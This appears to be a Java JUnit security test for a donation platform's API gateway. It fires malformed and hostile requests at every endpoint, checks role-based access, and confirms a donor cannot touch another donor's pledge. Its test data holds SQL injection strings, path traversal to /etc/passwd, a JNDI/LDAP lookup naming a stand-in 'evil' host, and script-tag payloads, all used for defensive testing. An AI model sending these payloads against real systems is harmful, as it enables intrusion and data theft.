package org.endow.systemtests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.endow.devstack.TestInfra;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Hostile and malformed requests over every endpoint through the gateway, as an attacker or a broken client would
 * send them: wrong types, sizes, encodings, injections, path traversal, wrong content types. Each must get a 4xx
 * problem+json (never a 5xx) and change nothing. Then every endpoint with every role and none, and a donor probing
 * another donor's pledge.
 */
class HostileInputIT {

    static EndowStack stack;
    static Http http;
    static HttpClient raw;
    static String gateway;
    static Donor ada;
    static Donor mallory;
    static String admin;
    static String adaPledge;

    @BeforeAll
    static void start() {
        // sign-up gives DONOR only here, so that each probe's token holds exactly the role it stands for
        stack = EndowStack.start(
                TestInfra.get().kafkaBootstrapServers(),
                "hostile-input",
                List.of("sponsor-tiers", "fellow-nominations", "grant-proposals"),
                Map.of("gateway", Map.of("ENDOW_ACCOUNTS_SIGN_UP_ROLES", "DONOR")));
        gateway = stack.gatewayUrl();
        http = new Http(gateway);
        raw = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
        Donor.awaitItemsKnown(http, "packaging");
        ada = Donor.signUp(http, "Ada Lovelace");
        mallory = Donor.signUp(http, "Mallory Probe");
        admin = Donor.token(http, EndowStack.ADMIN_EMAIL, EndowStack.ADMIN_PASSWORD);
        long before = Donor.pledged(http, "packaging");
        Http.Response pledged = ada.pledge(4_200, "packaging");
        assertEquals(201, pledged.status(), pledged.body());
        adaPledge = pledged.field("id");
        // the state snapshots compare the ledger too: let the pledge reach it first
        org.awaitility.Awaitility.await()
                .atMost(java.time.Duration.ofSeconds(60))
                .until(() -> Donor.pledged(http, "packaging") == before + 4_200);
    }

    @AfterAll
    static void stop() {
        if (stack != null) {
            stack.close();
        }
    }

    /** A JSON endpoint and a body it accepts; the corpus mutates the body field by field. */
    record JsonEndpoint(
            String method,
            String path,
            String token,
            Map<String, Object> valid,
            Set<String> freeText,
            Set<String> optional) {}

    private static List<JsonEndpoint> jsonEndpoints() {
        Map<String, Object> pledge = new LinkedHashMap<>();
        pledge.put("amountMinor", 2_500);
        pledge.put("currency", "USD");
        pledge.put("fundCode", "packaging");
        pledge.put("method", "BANK_TRANSFER");
        Map<String, Object> signup = new LinkedHashMap<>();
        signup.put("email", "new-person@example.org");
        signup.put("displayName", "New Person");
        signup.put("password", "a long enough passphrase");
        Map<String, Object> token = new LinkedHashMap<>();
        token.put("email", "nobody@example.org");
        token.put("password", "not a password anyone has");
        Map<String, Object> item = new LinkedHashMap<>();
        item.put("code", "hostile-item");
        item.put("title", "Hostile item");
        item.put("kind", "PROJECT");
        item.put("targetMinor", 100_000);
        item.put("currency", "USD");
        Map<String, Object> transfer = new LinkedHashMap<>();
        transfer.put("toFund", "packaging");
        transfer.put("amountMinor", 1);
        transfer.put("currency", "USD");
        transfer.put("reason", "corpus");
        Map<String, Object> inKind = new LinkedHashMap<>();
        inKind.put("fundCode", "packaging");
        inKind.put("valueMinor", 1);
        inKind.put("currency", "USD");
        inKind.put("description", "corpus");
        Map<String, Object> received = new LinkedHashMap<>();
        received.put("reference", "corpus");
        Map<String, Object> checkout = new LinkedHashMap<>();
        checkout.put("amountMinor", 2_500);
        checkout.put("currency", "USD");
        checkout.put("fundCode", "packaging");
        checkout.put("frequency", "MONTHLY");
        checkout.put("donorName", "Guest Corpus");
        checkout.put("donorEmail", "guest-corpus@example.org");
        checkout.put("dedication", "In honour of the corpus");
        Map<String, Object> refund = new LinkedHashMap<>();
        refund.put("amountMinor", 1);
        refund.put("reason", "corpus");
        Map<String, Object> nomination = new LinkedHashMap<>();
        nomination.put("nomineeName", "Corpus Nominee");
        nomination.put("nomineeEmail", "corpus-nominee@example.org");
        nomination.put(
                "statement", "A statement long enough to be read: fifty characters or more, about contributions.");
        Map<String, Object> roles = new LinkedHashMap<>();
        roles.put("roles", List.of("DONOR"));
        return List.of(
                new JsonEndpoint("POST", "/api/donations/pledges", ada.token, pledge, Set.of(), Set.of("method")),
                new JsonEndpoint(
                        "POST",
                        "/api/donations/checkout",
                        null,
                        checkout,
                        Set.of("donorName", "dedication"),
                        Set.of("frequency", "dedication")),
                new JsonEndpoint(
                        "POST",
                        "/api/donations/pledges/" + adaPledge + "/refunds",
                        admin,
                        refund,
                        Set.of("reason"),
                        Set.of()),
                new JsonEndpoint(
                        "POST",
                        "/api/fellows/nominations",
                        mallory.token,
                        nomination,
                        Set.of("nomineeName", "statement"),
                        Set.of()),
                new JsonEndpoint("POST", "/api/auth/signup", null, signup, Set.of("displayName", "password"), Set.of()),
                new JsonEndpoint("POST", "/api/auth/token", null, token, Set.of("password"), Set.of()),
                new JsonEndpoint("POST", "/api/funds/items", admin, item, Set.of("title"), Set.of()),
                new JsonEndpoint("POST", "/api/funds/transfers", admin, transfer, Set.of("reason"), Set.of()),
                new JsonEndpoint("POST", "/api/funds/in-kind", admin, inKind, Set.of("description"), Set.of()),
                new JsonEndpoint(
                        "POST",
                        "/api/donations/pledges/" + adaPledge + "/received",
                        admin,
                        received,
                        Set.of("reference"),
                        Set.of("reference")),
                new JsonEndpoint(
                        "PUT",
                        "/api/accounts/00000000-0000-4000-8000-000000000000/roles",
                        admin,
                        roles,
                        Set.of(),
                        Set.of()));
    }

    /**
     * Values the field must refuse, by its type in the valid body: free text accepts any words (an injection string
     * is stored as the text it is) but not NUL, oversize, blanks or non-strings; identifiers also refuse injections
     * and traversal; an optional field accepts null.
     */
    private static List<Object> hostileValues(Object valid, boolean freeText, boolean optional, boolean secret) {
        List<Object> values = new ArrayList<>(List.of(
                RawJson.of("[]"), RawJson.of("{}"), RawJson.of("[\"a\",{\"b\":[]}]"), RawJson.of("{\"$gt\":\"\"}")));
        if (valid instanceof Number) {
            values.addAll(List.of(
                    "12",
                    "' OR 1=1 --",
                    true,
                    -1,
                    RawJson.of("9223372036854775808"),
                    RawJson.of("1e400"),
                    RawJson.of("-0.5"),
                    "NaN",
                    "0x10"));
        } else if (valid instanceof List<?>) {
            values.addAll(List.of("DONOR", List.of("ROOT"), List.of("DONOR'; drop table account; --")));
        } else if (freeText) {
            values.addAll(List.of("x".repeat(70_000), 123, true));
            if (!secret) {
                values.add("nul \u0000 inside"); // a stored text; a password is only hashed
            }
            if (!optional) {
                values.addAll(List.of("", "   "));
            }
        } else {
            values.addAll(List.of(
                    "",
                    "   ",
                    "x".repeat(70_000),
                    "' OR 1=1 --",
                    "../../../../etc/passwd",
                    "${jndi:ldap://evil/x}",
                    "\u0000",
                    "\u202Egnp.exe",
                    123,
                    true));
        }
        if (!optional) {
            values.add(RawJson.of("null"));
        }
        return values;
    }

    /** Raw JSON text embedded as is. */
    record RawJson(String text) {
        static RawJson of(String text) {
            return new RawJson(text);
        }
    }

    private static String json(Map<String, Object> body) {
        StringBuilder out = new StringBuilder("{");
        body.forEach((k, v) -> {
            if (out.length() > 1) {
                out.append(',');
            }
            out.append(quote(k)).append(':').append(value(v));
        });
        return out.append('}').toString();
    }

    private static String value(Object v) {
        if (v instanceof RawJson r) {
            return r.text();
        }
        if (v instanceof String s) {
            return quote(s);
        }
        if (v instanceof List<?> list) {
            StringBuilder out = new StringBuilder("[");
            for (Object o : list) {
                if (out.length() > 1) {
                    out.append(',');
                }
                out.append(value(o));
            }
            return out.append(']').toString();
        }
        return String.valueOf(v);
    }

    private static String quote(String s) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    /** One malformed request and a name for the report. */
    record Case(String name, HttpRequest request) {}

    private static HttpRequest.Builder builder(String path, String token) {
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(gateway + path))
                .timeout(Duration.ofSeconds(20))
                .header("Accept", "application/json");
        if (token != null) {
            builder.header("Authorization", "Bearer " + token);
        }
        return builder;
    }

    private static List<Case> corpus() {
        List<Case> cases = new ArrayList<>();
        for (JsonEndpoint endpoint : jsonEndpoints()) {
            String where = endpoint.method() + " " + endpoint.path();
            // every field, every hostile value of its type
            for (String field : endpoint.valid().keySet()) {
                for (Object hostile : hostileValues(
                        endpoint.valid().get(field),
                        endpoint.freeText().contains(field),
                        endpoint.optional().contains(field),
                        field.equals("password"))) {
                    Map<String, Object> body = new LinkedHashMap<>(endpoint.valid());
                    body.put(field, hostile);
                    cases.add(jsonCase(where + " " + field + "=" + abbreviate(value(hostile)), endpoint, json(body)));
                }
                Map<String, Object> missing = new LinkedHashMap<>(endpoint.valid());
                missing.remove(field);
                if (!endpoint.optional().contains(field)) {
                    cases.add(jsonCase(where + " without " + field, endpoint, json(missing)));
                }
            }
            boolean allOptional =
                    endpoint.optional().containsAll(endpoint.valid().keySet());
            // bodies that are not the object at all
            for (String body : List.of(
                    "",
                    "{",
                    "{\"amountMinor\":",
                    "[]",
                    "\"text\"",
                    "42",
                    "null",
                    "{\"a\":1}{\"b\":2}",
                    "{'single':1}",
                    "[".repeat(5_000) + "]".repeat(5_000),
                    "{\"x\":" + "[".repeat(3_000) + "]".repeat(3_000) + "}")) {
                // where every field is optional, an object of unknown fields is a valid request (and acts)
                boolean acts = allOptional && body.startsWith("{\"");
                if (!acts) {
                    cases.add(jsonCase(where + " body " + abbreviate(body), endpoint, body));
                }
            }
            // encodings and content types
            if (!allOptional) {
                cases.add(new Case(
                        where + " invalid UTF-8",
                        builder(endpoint.path(), endpoint.token())
                                .header("Content-Type", "application/json")
                                .method(endpoint.method(), HttpRequest.BodyPublishers.ofByteArray(new byte[] {
                                    '{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '"', '}'
                                }))
                                .build()));
            }
            for (String type : List.of(
                    "text/plain",
                    "application/xml",
                    "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x")) {
                cases.add(new Case(
                        where + " as " + type,
                        builder(endpoint.path(), endpoint.token())
                                .header("Content-Type", type)
                                .method(endpoint.method(), HttpRequest.BodyPublishers.ofString(json(endpoint.valid())))
                                .build()));
            }
            cases.add(new Case(
                    where + " 2 MB body",
                    builder(endpoint.path(), endpoint.token())
                            .header("Content-Type", "application/json")
                            .method(
                                    endpoint.method(),
                                    HttpRequest.BodyPublishers.ofString(
                                            "{\"pad\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}"))
                            .build()));
        }
        // path parameters and queries
        for (String path : List.of(
                "/api/donations/pledges/not-a-uuid",
                "/api/donations/pledges/..%2F..%2Fetc%2Fpasswd",
                "/api/donations/pledges/%00",
                "/api/donations/pledges/" + "9".repeat(5_000),
                "/api/funds/items/..%2F..%2Fetc%2Fpasswd/statement.pdf",
                "/api/funds/items/%3Cscript%3E",
                "/api/funds/items/packaging/statement.pdf?from=yesterday&to=tomorrow",
                "/api/funds/items/packaging/statement.pdf?from=2026-13-45",
                "/api/funds/ledger?from=not-a-date",
                "/api/funds/ledger?limit=-5",
                "/api/funds/ledger?limit=99999999999999999999",
                "/api/funds/ledger?fund=%27%20OR%201%3D1%20--&limit=x",
                "/api/donations/operations/dead-letters/not-a-number",
                "/api/accounts/not-a-uuid/roles")) {
            cases.add(new Case(
                    "GET " + abbreviate(path), builder(path, admin).GET().build()));
        }
        // credentials that are not credentials
        for (String header :
                List.of("Bearer", "Bearer ", "Bearer a.b.c", "Basic YWRtaW46YWRtaW4=", "Bearer " + "A".repeat(8_000))) {
            cases.add(new Case(
                    "Authorization " + abbreviate(header),
                    HttpRequest.newBuilder(URI.create(gateway + "/api/donations/pledges/mine"))
                            .timeout(Duration.ofSeconds(20))
                            .header("Authorization", header)
                            .GET()
                            .build()));
        }
        cases.add(new Case(
                "Idempotency-Key of 10,000 characters",
                builder("/api/donations/pledges", ada.token)
                        .header("Content-Type", "application/json")
                        .header("Idempotency-Key", "k".repeat(10_000))
                        .POST(HttpRequest.BodyPublishers.ofString(
                                json(jsonEndpoints().getFirst().valid())))
                        .build()));
        return cases;
    }

    private static Case jsonCase(String name, JsonEndpoint endpoint, String body) {
        return new Case(
                name,
                builder(endpoint.path(), endpoint.token())
                        .header("Content-Type", "application/json")
                        .method(endpoint.method(), HttpRequest.BodyPublishers.ofString(body))
                        .build());
    }

    private static String abbreviate(String text) {
        String oneLine = text.replaceAll("[\\p{Cntrl}]", "?");
        return oneLine.length() > 40 ? oneLine.substring(0, 40) + "…(" + oneLine.length() + ")" : oneLine;
    }

    /** What a client sees of the system's state: balances, items, the donor's pledges, the audit trails. */
    private static List<String> state() {
        return List.of(
                http.get("/api/funds/transparency", null).body(),
                http.get("/api/funds/items", null).body(),
                http.get("/api/donations/pledges/mine", ada.token).body(),
                http.get("/api/donations/pledges/mine", mallory.token).body(),
                http.get("/api/funds/ledger?limit=500", admin).body(),
                http.get("/api/funds/audit", admin).body(),
                http.get("/api/accounts/audit", admin).body());
    }

    @Test
    void hundreds_of_malformed_requests_get_a_4xx_problem_and_change_nothing() throws Exception {
        List<String> before = state();
        List<Case> cases = corpus();
        List<String> failures = new ArrayList<>();
        Map<Integer, Integer> statuses = new java.util.TreeMap<>();

        for (Case c : cases) {
            HttpResponse<String> response = raw.send(c.request(), HttpResponse.BodyHandlers.ofString());
            statuses.merge(response.statusCode(), 1, Integer::sum);
            String type = response.headers().firstValue("Content-Type").orElse("");
            if (response.statusCode() < 400 || response.statusCode() >= 500) {
                failures.add(c.name() + " -> " + response.statusCode() + " " + abbreviate(response.body()));
            } else if (!type.startsWith("application/problem+json")) {
                failures.add(
                        c.name() + " -> " + response.statusCode() + " as " + type + ": " + abbreviate(response.body()));
            } else if (!response.body().contains("\"status\":" + response.statusCode())) {
                failures.add(c.name() + " -> problem without its status: " + abbreviate(response.body()));
            }
        }

        assertTrue(cases.size() >= 200, "the corpus has " + cases.size() + " requests");
        assertEquals(List.of(), failures, cases.size() + " requests, statuses " + statuses);
        assertEquals(before, state(), "no malformed request changed anything");
    }

    /** Who may call what: every endpoint with every role and with none. */
    @Test
    void every_endpoint_answers_each_role_as_its_rules_say() {
        Map<String, String> tokens = new LinkedHashMap<>();
        tokens.put("none", null);
        tokens.put("DONOR", ada.token);
        for (String role : List.of("SPONSOR", "APPLICANT", "NOMINATOR", "GRANTS_WG", "FELLOWS_WG", "STAFF")) {
            Donor person = Donor.signUp(http, "Role " + role);
            String id = http.get("/api/auth/me", person.token).field("id");
            Http.Response granted =
                    http.send("PUT", "/api/accounts/" + id + "/roles", "{\"roles\":[\"" + role + "\"]}", admin);
            assertEquals(200, granted.status(), granted.body());
            tokens.put(role, Donor.token(http, person.email, person.password));
        }
        tokens.put("ADMIN", admin); // the first admin holds ADMIN and STAFF

        // method, path, roles allowed (empty: anyone, even without a token)
        /**
         * {@code aboutNothing}: the path names something that does not exist (the zero id, none-such, evt_none_such,
         * someone, 999999), so an allowed caller may be told 404, as a problem (the service's "no such ..."), never the
         * framework's unmatched route. Every other rule names a real endpoint and thing: 404 or 405 there means it is gone or
         * misrouted.
         */
        record Rule(String method, String path, Set<String> allowed, boolean aboutNothing) {
            Rule(String method, String path, Set<String> allowed) {
                this(
                        method,
                        path,
                        allowed,
                        java.util.regex.Pattern.compile(
                                        "/(00000000-0000-4000-8000-000000000000|none-such|evt_none_such|someone|999999)(/|$)")
                                .matcher(path)
                                .find());
            }
        }
        List<Rule> rules = List.of(
                new Rule("GET", "/api/funds/items", Set.of()),
                new Rule("GET", "/api/funds/transparency", Set.of()),
                new Rule("GET", "/api/donations/funded-items", Set.of()),
                new Rule("POST", "/api/funds/items", Set.of("STAFF", "ADMIN")),
                new Rule("PATCH", "/api/funds/items/packaging", Set.of("STAFF", "ADMIN")),
                new Rule("POST", "/api/funds/transfers", Set.of("STAFF", "ADMIN")),
                new Rule("POST", "/api/funds/in-kind", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/funds/ledger", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/funds/ledger.csv?from=2026-01-01&to=2026-01-31", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/funds/audit", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/funds/items/packaging/statement.pdf", Set.of("STAFF", "ADMIN")),
                new Rule("POST", "/api/donations/pledges", Set.of("DONOR")),
                new Rule("GET", "/api/donations/pledges/mine", Set.of("DONOR")),
                new Rule("POST", "/api/donations/pledges/" + adaPledge + "/received", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/sponsors/wall", Set.of()),
                new Rule("GET", "/api/sponsors/catalogue/2022", Set.of()),
                new Rule("POST", "/api/sponsors/sponsorships", Set.of("SPONSOR")),
                new Rule("GET", "/api/sponsors/sponsorships/mine", Set.of("SPONSOR")),
                new Rule("GET", "/api/sponsors/sponsorships", Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/sponsors/sponsorships/00000000-0000-4000-8000-000000000000/approve",
                        Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/sponsors/sponsorships/00000000-0000-4000-8000-000000000000/contract/sign",
                        Set.of("SPONSOR")),
                new Rule("GET", "/api/sponsors/audit", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/sponsors/sponsorships.csv", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/donations/staff/donations.csv", Set.of("STAFF", "ADMIN")),
                new Rule(
                        "GET",
                        "/api/donations/registrations/events/none-such/bank-refunds.csv",
                        Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/grants/staff/proposals.csv", Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/sponsors/sponsorships/00000000-0000-4000-8000-000000000000/invoice/checkout",
                        Set.of("SPONSOR")),
                new Rule("POST", "/api/sponsors/stripe/webhook", Set.of()),
                new Rule("GET", "/api/sponsors/fulfilment", Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/sponsors/sponsorships/00000000-0000-4000-8000-000000000000/vetting",
                        Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/sponsors/sponsorships/00000000-0000-4000-8000-000000000000/wall",
                        Set.of("STAFF", "ADMIN")),
                new Rule(
                        "GET",
                        "/api/sponsors/sponsorships/00000000-0000-4000-8000-000000000000/assets",
                        Set.of("SPONSOR", "STAFF", "ADMIN")),
                new Rule(
                        "PUT",
                        "/api/sponsors/sponsorships/00000000-0000-4000-8000-000000000000/assets/pycon-job-listing/jobs-page",
                        Set.of("SPONSOR")),
                new Rule("GET", "/api/donations/staff/donations", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/donations/audit", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/donations/mine/export", Set.of("DONOR")),
                new Rule("PUT", "/api/donations/pledges/" + adaPledge + "/recognition", Set.of("DONOR")),
                new Rule("GET", "/api/donations/registrations/events/none-such", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/donations/registrations/events/none-such/bank-refunds", Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/donations/registrations/events/none-such/bank-refunds/sent",
                        Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/fellows/roster", Set.of()),
                new Rule(
                        "POST",
                        "/api/fellows/nominations",
                        Set.of(
                                "DONOR",
                                "SPONSOR",
                                "APPLICANT",
                                "NOMINATOR",
                                "GRANTS_WG",
                                "FELLOWS_WG",
                                "STAFF",
                                "ADMIN")),
                new Rule("GET", "/api/fellows/review", Set.of("FELLOWS_WG", "STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/fellows/nominees/00000000-0000-4000-8000-000000000000/votes",
                        Set.of("FELLOWS_WG")),
                new Rule(
                        "POST",
                        "/api/fellows/nominees/00000000-0000-4000-8000-000000000000/merge",
                        Set.of("STAFF", "ADMIN")),
                new Rule("PUT", "/api/fellows/members/someone", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/fellows/cycles/2026-Q4/announcement", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/fellows/operations/dead-letters", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/donations/giving-options", Set.of()),
                new Rule("POST", "/api/donations/checkout", Set.of()),
                new Rule("POST", "/api/donations/pledges/" + adaPledge + "/refunds", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/donations/monthly/mine", Set.of("DONOR")),
                new Rule(
                        "POST",
                        "/api/donations/monthly/00000000-0000-4000-8000-000000000000/cancel",
                        Set.of("DONOR", "STAFF", "ADMIN")),
                new Rule("POST", "/api/donations/stripe/webhook", Set.of()),
                new Rule("GET", "/api/donations/stripe/unmatched", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/donations/stripe/unmatched.csv", Set.of("STAFF", "ADMIN")),
                new Rule("POST", "/api/donations/stripe/unmatched/evt_none_such/explained", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/donations/operations/dead-letters", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/funds/operations/dead-letters", Set.of("STAFF", "ADMIN")),
                new Rule("POST", "/api/funds/operations/dead-letters/999999/replay", Set.of("ADMIN")),
                new Rule("GET", "/api/donations/operations/failed-mails", Set.of("STAFF", "ADMIN")),
                new Rule("POST", "/api/sponsors/operations/failed-mails/999999/requeue", Set.of("ADMIN")),
                new Rule(
                        "GET",
                        "/api/grants/categories",
                        Set.of(
                                "DONOR",
                                "SPONSOR",
                                "APPLICANT",
                                "NOMINATOR",
                                "GRANTS_WG",
                                "FELLOWS_WG",
                                "STAFF",
                                "ADMIN")),
                new Rule("PUT", "/api/grants/categories/none-such", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/grants/members", Set.of("GRANTS_WG", "STAFF", "ADMIN")),
                new Rule("PUT", "/api/grants/members/someone", Set.of("STAFF", "ADMIN")),
                new Rule("POST", "/api/grants/proposals", Set.of("APPLICANT")),
                new Rule("GET", "/api/grants/proposals/mine", Set.of("APPLICANT")),
                new Rule(
                        "GET",
                        "/api/grants/proposals/00000000-0000-4000-8000-000000000000",
                        Set.of(
                                "DONOR",
                                "SPONSOR",
                                "APPLICANT",
                                "NOMINATOR",
                                "GRANTS_WG",
                                "FELLOWS_WG",
                                "STAFF",
                                "ADMIN")),
                new Rule(
                        "POST",
                        "/api/grants/proposals/00000000-0000-4000-8000-000000000000/acceptance",
                        Set.of("APPLICANT")),
                new Rule(
                        "POST",
                        "/api/grants/proposals/00000000-0000-4000-8000-000000000000/milestones/1/report",
                        Set.of("APPLICANT")),
                new Rule("GET", "/api/grants/review/queue", Set.of("GRANTS_WG", "STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/grants/review/proposals/00000000-0000-4000-8000-000000000000/votes",
                        Set.of("GRANTS_WG", "STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/grants/review/proposals/00000000-0000-4000-8000-000000000000/board-decision",
                        Set.of("ADMIN")),
                new Rule("GET", "/api/grants/staff/proposals", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/grants/staff/audit", Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/grants/staff/proposals/00000000-0000-4000-8000-000000000000/approval",
                        Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/grants/staff/proposals/00000000-0000-4000-8000-000000000000/withdrawal",
                        Set.of("STAFF", "ADMIN")),
                new Rule(
                        "POST",
                        "/api/grants/staff/proposals/00000000-0000-4000-8000-000000000000/milestones/1/disbursement",
                        Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/grants/operations/dead-letters", Set.of("STAFF", "ADMIN")),
                new Rule("GET", "/api/accounts/audit", Set.of("ADMIN")),
                new Rule("PUT", "/api/accounts/00000000-0000-4000-8000-000000000000/roles", Set.of("ADMIN")));
        List<String> wrong = new ArrayList<>();
        int probes = 0;
        for (Rule rule : rules) {
            for (Map.Entry<String, String> who : tokens.entrySet()) {
                // an empty object: an allowed caller gets past authorisation and fails validation, nothing changes
                Http.Response response =
                        rule.path().endsWith(".pdf") || rule.path().contains(".csv")
                                ? http.getAny(rule.path(), who.getValue())
                                : rule.method().equals("GET")
                                        ? http.get(rule.path(), who.getValue())
                                        : http.send(rule.method(), rule.path(), "{}", who.getValue());
                probes++;
                boolean allowed = rule.allowed().isEmpty() || rule.allowed().contains(who.getKey());
                int status = response.status();
                if (allowed && (status == 401 || status == 403)) {
                    wrong.add(rule.method() + " " + rule.path() + " as " + who.getKey() + ": refused " + status);
                } else if (allowed
                        && (status == 405
                                || status == 404 && !expectedNotFound(rule.aboutNothing(), rule.path(), response))) {
                    wrong.add(rule.method() + " " + rule.path() + " as " + who.getKey() + ": no such endpoint? "
                            + status + " " + abbreviate(response.body()));
                } else if (!allowed && status != (who.getValue() == null ? 401 : 403)) {
                    wrong.add(rule.method() + " " + rule.path() + " as " + who.getKey() + ": " + status + " "
                            + abbreviate(response.body()));
                }
                if (status >= 500) {
                    wrong.add(rule.method() + " " + rule.path() + " as " + who.getKey() + ": " + status);
                }
            }
        }
        assertEquals(List.of(), wrong, probes + " probes");
    }

    /**
     * A 404 an allowed caller may get: the service's own "no such ..." problem (ProblemException.notFound) for a rule
     * about nothing, or, for a Stripe webhook, StripeWebhookVerifier's "Webhooks are off" (this stack sets no signing
     * secret). Anything else, the framework's unmatched route above all, means the endpoint is gone or misrouted.
     */
    private static boolean expectedNotFound(boolean aboutNothing, String path, Http.Response response) {
        if (path.endsWith("/stripe/webhook")) {
            return response.isProblem() && response.body().contains("\"title\":\"Webhooks are off\"");
        }
        // ProblemException.notFound's title; the framework's unmatched route answers "Not Found"
        return aboutNothing && response.isProblem() && response.body().contains("\"title\":\"Not found\"");
    }

    @Test
    void text_that_looks_like_an_attack_is_kept_as_the_text_it_is() {
        String name = "Robert'); DROP TABLE account;-- <script>alert(1)</script> ${jndi:ldap://x}";
        String email = "bobby+" + java.util.UUID.randomUUID() + "@example.org";
        Http.Response signedUp = http.postJson(
                "/api/auth/signup",
                "{\"email\":\"%s\",\"displayName\":\"%s\",\"password\":\"little bobby tables\"}".formatted(email, name),
                null);
        assertEquals(201, signedUp.status(), signedUp.body());

        Http.Response me = http.get("/api/auth/me", Donor.token(http, email, "little bobby tables"));
        assertEquals(name, me.field("displayName"));
        assertEquals(200, http.get("/api/funds/items", null).status(), "every table is still there");
    }

    @Test
    void a_donor_cannot_read_or_settle_another_donors_pledge() {
        Http.Response peek = http.get("/api/donations/pledges/" + adaPledge, mallory.token);
        assertEquals(404, peek.status(), "another donor's pledge does not exist for you: " + peek.body());
        assertTrue(peek.isProblem());
        assertTrue(http.get("/api/donations/pledges/mine", mallory.token).body().equals("[]"));
        Http.Response settle = http.postJson(
                "/api/donations/pledges/" + adaPledge + "/received", "{\"reference\":\"mine now\"}", mallory.token);
        assertEquals(403, settle.status());
        assertEquals(
                200, http.get("/api/donations/pledges/" + adaPledge, ada.token).status());
    }
}
